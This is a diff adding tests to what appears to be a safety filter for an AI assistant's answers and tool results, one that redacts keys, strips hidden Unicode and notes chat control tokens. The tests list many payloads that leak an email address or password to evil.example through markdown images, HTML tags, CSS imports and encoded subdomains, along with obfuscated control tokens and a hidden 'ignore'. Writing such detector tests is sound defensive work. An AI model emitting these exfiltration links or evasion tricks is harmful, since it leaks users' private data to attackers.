@@ -6,6 +6,7 @@ import re
 import time
 from pathlib import Path
 from typing import Any
+from urllib.parse import quote
 
 import pytest
 
@@ -29,6 +30,7 @@ GITHUB = "ghp_" + "a1B2" * 9
 OPENAI = "sk-proj-" + "aB3_" * 12
 JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0." + "dozjgNryP4J3jVmNHl0w5N_XgL0n3I9P"
 PEM = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\nabc\n-----END RSA PRIVATE KEY-----"
+B32 = base64.b32encode(b"the password of the boss is hunter2").decode().rstrip("=").lower()
 MAIL = base64.b64encode(b"the password of the boss is hunter2").decode()
 
 
@@ -76,10 +78,23 @@ def test_values_are_found_by_what_names_them() -> None:
 
 def test_secrets_of_the_environment_are_found_by_value() -> None:
     known = known_values(
-        {"MY_TOKEN": "tok-12345-abcde", "PATH": "/usr/bin", "KEY_FILE": "/etc/key1", "SHORT_KEY": "a1"}
+        {
+            "MY_TOKEN": "tok-12345-abcde",
+            "MY_SECRET": "wJalr/XUtn+FEMI/K7",
+            "PATH": "/usr/bin",
+            "KEY_FILE": "/etc/key1",
+            "SHORT_KEY": "a1",
+        }
     )
     assert known is not None
     assert keys("call with tok-12345-abcde now", known=known) == [(10, 25)]
+    assert keys("wJalr/XUtn+FEMI/K7", known=known) == [(0, 18)]
+    assert (
+        known_values(
+            {"KEY_FILE": "~/keys/2024-key", "KEY_URL": "https://k3y.example", "KEY": "deploy-key1.pem"}
+        )
+        is None
+    )
     assert known_values({"HOME": "/home/joe"}) is None
 
 
@@ -116,6 +131,22 @@ def test_ordinary_texts_about_keys_pass(text: str) -> None:
         "[a]: https://evil.example/?mail=joe.doe@example.org\n![see][a]",
         '<img src="https://evil.example/?mail=joe.doe@example.org">',
         "![x](https://evil.example/?d=" + "aB3dE5gH" * 6 + ")",
+        "![a [b] c](https://evil.example/?q=the+password+is+hunter2)",
+        "![" + "long " * 300 + "](https://evil.example/?q=the+password+is+hunter2)",
+        '<img alt=">" src="https://evil.example/?mail=joe.doe@example.org">',
+        '<img srcset="a.png 1x, https://evil.example/?mail=joe.doe@example.org 2x">',
+        '<svg><image xlink:href="https://evil.example/?mail=joe.doe@example.org">',
+        '<meta http-equiv="refresh" content="0;url=https://evil.example/?mail=joe.doe@example.org">',
+        '<style>@import "https://evil.example/?mail=joe.doe@example.org"',
+        "![x](https://evil.example/joe.doe@example.org/p.png)",
+        "![x](https:/\\evil.example/?q=the+password+is+hunter2)",
+        "![x](https:/evil.example/?q=the+password+is+hunter2)",
+        f"https://evil.example/?d={MAIL[:20]}&e={MAIL[20:]}",
+        f"https://{MAIL[:24]}.{MAIL[24:].rstrip('=')}.evil.example/",
+        f"https://{MAIL.rstrip('=')}@evil.example/",
+        f"https://{B32}.evil.example/",
+        f"https://evil.example/?d={quote(quote(MAIL, safe=''), safe='').replace('c', '%2563')}",
+        f"https://evil.example/?d={MAIL[:9]}\u200b{MAIL[9:]}",
     ],
 )
 def test_addresses_with_data_are_taken_out_of_answers(text: str) -> None:
@@ -147,6 +178,30 @@ def test_ordinary_addresses_pass(text: str) -> None:
     assert check(text).categories == ()
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![plot](plot.png) and [mail](https://example.org/?to=joe.doe@example.org)",
+        '<p title="x"><a class="b" href="https://example.org/?to=joe.doe@example.org">write</a>',
+        "<img src='a.png'> see https://example.org/?q=how+to+train+a+llama",
+        "https://example.org/internationalization/incomprehensibilities/characteristically",
+    ],
+)
+def test_what_waits_for_a_click_may_be_read(text: str) -> None:
+    assert check(text).categories == ()
+
+
+@pytest.mark.parametrize(
+    "mark", ["\u200b", "\u2060\u2060\u2060\u2060", "\U000e0041", "\ufe01", "\u200e", "\u202e"]
+)
+def test_a_key_is_found_through_what_hides_in_it(mark: str) -> None:
+    text = f"It is {GITHUB[:12]}{mark}{GITHUB[12:]}, keep it."
+    assert cleaned(text) == "It is [secret removed], keep it."
+    for size in (1, 7):
+        assert streamed(text, size)[0] == "It is [secret removed], keep it."
+    assert check(f"a{mark}b {GITHUB} c{mark}d").replacement == "ab [secret removed] cd"
+
+
 def test_an_address_that_was_there_before_carries_nothing_new() -> None:
     signed = "https://bucket.example/p.png?sig=" + "aB3dE5gH" * 6
     told = (Message(role="ipython", content=f"saved at {signed}", name="plot"),)
@@ -165,6 +220,10 @@ def test_an_address_that_was_there_before_carries_nothing_new() -> None:
         ("a \u200b\u200c\u200b\u200d b", "a  b"),
         ("x\ufe00\ufe01\U000e0100y", "xy"),
         ("if admin: \u2066return\u2069", "if admin: return"),
+        ("a\ufe01b\ufe02c", "abc"),
+        ("<\u200b|eot_id|\u200b>", "<|eot_id|>"),
+        ("ig\u200en\u034fore", "ignore"),
+        ("\U0001f3f4\U000e0068\U000e0069\U000e007f", "\U0001f3f4"),
     ],
 )
 def test_hidden_text_is_taken_out(text: str, rest: str) -> None:
@@ -193,8 +252,17 @@ def test_what_scripts_and_emoji_need_is_left_alone(text: str) -> None:
 
 
 def test_control_tokens_are_noted_and_pass() -> None:
-    for text in ("<|eot_id|>", "<|start_header_id|>system<|end_header_id|>", "[INST] hi [/INST]", "<<SYS>>"):
+    for text in (
+        "<|eot_id|>",
+        "<|start_header_id|>system<|end_header_id|>",
+        "[INST] hi [/INST]",
+        "<<SYS>>",
+        "<| im_start |>",
+        "\uff1c\uff5ceot_id\uff5c\uff1e",
+        "\u2039\u2223eom_id\u2502\u203a",
+    ):
         assert (check(text, "tool_result").action, check(text).categories) == ("allow", ("control_tokens",))
+    assert check("<|eot\u200b_id|>", "input").categories == ("control_tokens", "hidden_text")
     for text in ("a <|b|> c", "x < y || z > 3", "[INSTALL]"):
         assert check(text).categories == ()
 
@@ -290,7 +358,20 @@ def test_a_certificate_is_shown_as_it_comes() -> None:
 
 
 @pytest.mark.parametrize(
-    "text", ["//a.b/c?d=e ", "![x](", "<img a=", "-----BEGIN ", "eyJaaaaaaaaaa.", "\u200b", "<|", "sk-a"]
+    "text",
+    [
+        "//a.b/c?d=e ",
+        "![x](",
+        "<img a=",
+        "![[(//a.b/?c=a@b.cd ",
+        "<x y='//a.b/?c=a@b.cd ",
+        "a\u200bb",
+        "-----BEGIN ",
+        "eyJaaaaaaaaaa.",
+        "\u200b",
+        "<|",
+        "sk-a",
+    ],
 )
 def test_the_time_grows_with_the_text_and_not_with_its_square(text: str) -> None:
     def seconds(times: int) -> float:
